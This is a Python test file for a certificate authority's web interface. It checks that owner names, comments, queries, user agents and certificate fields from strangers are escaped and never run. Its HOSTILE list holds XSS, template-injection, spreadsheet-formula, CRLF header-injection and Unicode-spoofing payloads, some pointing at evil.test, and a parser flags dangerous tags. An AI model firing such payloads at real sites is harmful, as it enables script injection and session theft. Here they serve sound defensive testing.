"""What strangers write is shown as text and never runs: certificate fields, owners, comments, names, agents, queries.

Values come into the records in every way that there is, and each page that shows them is read back.
"""

from dataclasses import replace
from html.parser import HTMLParser

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID
from flask import Flask
from werkzeug.test import TestResponse

from ca.authority import Authority
from ca.authority.signin import Client
from ca.records import Reason, serial_hex
from tests.ca.authority.world import a_request
from tests.web.ui_people import OPERATOR, Browser, invite, signed_in
from web.ui import decoded
from web.ui.pages import shown

HOSTILE = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{display:none}</style>",
    "<base href='https://evil.test/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<form action=https://evil.test><input name=_token>",
    "<div hx-get='https://evil.test' hx-trigger='load'>",
    "<div data-passkey=get>",
    "{{ 7*7 }}{% raw %}",
    "${7*7}#{7*7}",
    "<!-- -->--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "\u202egnp.exe",
    "\u2066\u2069\u200f\u200e",
    "\u200b\ufeff zero width",
    "nul\x00byte",
    "bell\x07 escape\x1b[31m",
    "line\nbreak\r\nSet-Cookie: x=1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)",
    "A" * 65536,
)


class Reader(HTMLParser):
    """Reads a page as a browser does, and keeps what could run, lead away or draw; and the text that is seen."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag == "script" and not given.get("src", "").startswith("/ui/static/"):
            self.bad.append("script")
        if tag in ("img", "iframe", "style", "base", "object", "embed", "animate") or "http-equiv" in given:
            self.bad.append(tag)
        for name, value in given.items():
            leads = name in ("href", "action", "src", "formaction", "hx-get", "hx-post", "data-options")
            if name.startswith("on") or name == "style" or (leads and not value.startswith(("/ui/", "#", "otpauth:"))):
                self.bad.append(f"{tag} {name}={value[:60]}")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def read(answer: TestResponse) -> str:
    """The text of a page in which nothing runs."""
    reader = Reader()
    reader.feed(answer.text)
    assert not reader.bad, reader.bad
    assert "Set-Cookie" not in answer.headers
    assert len(answer.data) < 200_000
    return "".join(reader.text)


@pytest.fixture
def ui(authority: Authority) -> Flask:
    """The application with the UI's door."""
    from web.app import create_app

    return create_app(authority, frozenset({"ui"}))


def test_there_are_thirty() -> None:
    assert len(set(HOSTILE)) == 30


@pytest.mark.slow
def test_owners_and_comments_are_text(ui: Flask, authority: Authority) -> None:
    """The owner by the API's way in, the comment by the UI's; then every page that shows them."""
    browser = signed_in(ui, authority, "auditor")
    for value in HOSTILE:
        told = value.replace("\x00", "")  # PostgreSQL keeps no NUL, and the doors let none in
        one = authority.issue(replace(a_request(), owner=told))
        authority.revoke(one, Reason.SUPERSEDED, OPERATOR, told[:1000])
        text = read(browser.get(f"/ui/certificates/{serial_hex(one.serial)}"))
        assert text.count(shown(told)[:40].strip()) >= 2
    assert "<script>alert(1)</script>" in read(browser.get("/ui/certificates?q=status:revoked"))
    assert "alert(1)" in read(browser.get("/ui/audit?action=certificate.revoked"))


def test_questions_are_text(ui: Flask, authority: Authority) -> None:
    browser = signed_in(ui, authority, "auditor")
    for value in HOSTILE:
        for path in ("/ui/certificates", "/ui/audit", "/ui/certificates/x"):
            asked = {"q": value[:2000], "actor": value[:2000], "target": value[:2000]}
            answer = browser.client.get(path, query_string=asked, base_url=browser.origin)
            assert answer.status_code in (200, 400)
            read(answer)


@pytest.mark.slow
def test_what_is_typed_at_the_sign_in_is_not_shown_again(ui: Flask, authority: Authority) -> None:
    browser = signed_in(ui, authority, "auditor")
    for value in HOSTILE[::8]:
        sent = browser.post("/ui/sign-in/password", {"name": value, "password": value[:100], "code": value[:20]})
        assert sent.status_code in (400, 401, 429)
        assert "alert" not in read(sent)
    authority.store.change("DELETE FROM throttle WHERE failures > ?", 0)


def test_an_agent_is_text(ui: Flask, authority: Authority) -> None:
    from ca.authority import signin

    name = invite(authority, "viewer")
    authority.store.set_password(name, "no hash", b"x" * 64)
    for value in HOSTILE:
        opened = signin.open_for(authority, authority.store.person(name), "password", Client("::1", value))
    page = read(Browser(ui, authority).take(opened).get("/ui/account"))
    assert "<script>alert(1)</script>" in page


def test_fields_of_a_certificate_that_another_made_are_text() -> None:
    """The decoder is given what no CA of ours would sign: names, policies and unknown extensions full of markup."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.ORGANIZATION_NAME, one[:60]) for one in HOSTILE[:20]])
    alternative = [x509.DNSName(one) for one in HOSTILE if one.isascii() and len(one) < 300]
    builder = x509.CertificateBuilder(name, name, key.public_key(), 1, *_times())
    builder = builder.add_extension(x509.SubjectAlternativeName(alternative), False)
    builder = builder.add_extension(x509.UnrecognizedExtension(x509.ObjectIdentifier("1.2.3"), b"<script>"), True)
    der = builder.sign(key, hashes.SHA256()).public_bytes(Encoding.DER)
    found = decoded.extensions(der)
    assert [one.oid for one in found] == ["2.5.29.17", "1.2.3"]
    assert found[0].lines[0] == "DNS: <script>alert(1)</script>"
    assert "script" in decoded.facts(der)["Subject"]  # text: the templates escape it
    assert decoded.extensions(b"junk")[0].name == "unreadable"


def _times():
    from datetime import UTC, datetime

    return datetime(2026, 1, 1, tzinfo=UTC), datetime(2027, 1, 1, tzinfo=UTC)


@pytest.mark.parametrize(
    ("value", "seen"),
    [
        ("\u202egnp.exe", "⟨U+202E⟩gnp.exe"),
        ("nul\x00", "nul⟨U+0000⟩"),
        ("\ufeffx", "⟨U+FEFF⟩x"),
        ("A" * 65536, "A" * 300 + "… (65536 characters)"),
        ("Bücher GmbH\n", "Bücher GmbH\n"),
    ],
)
def test_what_would_mislead_the_eye_is_shown_by_its_code(value: str, seen: str) -> None:
    assert shown(value) == seen


def test_a_body_that_is_too_large_is_refused(ui: Flask, authority: Authority) -> None:
    browser = signed_in(ui, authority, "viewer")
    assert browser.post("/ui/account/theme", {"theme": "x" * 300_000}).status_code == 413
    assert browser.post("/ui/account/theme", {"theme": "x" * 3000}).status_code == 400
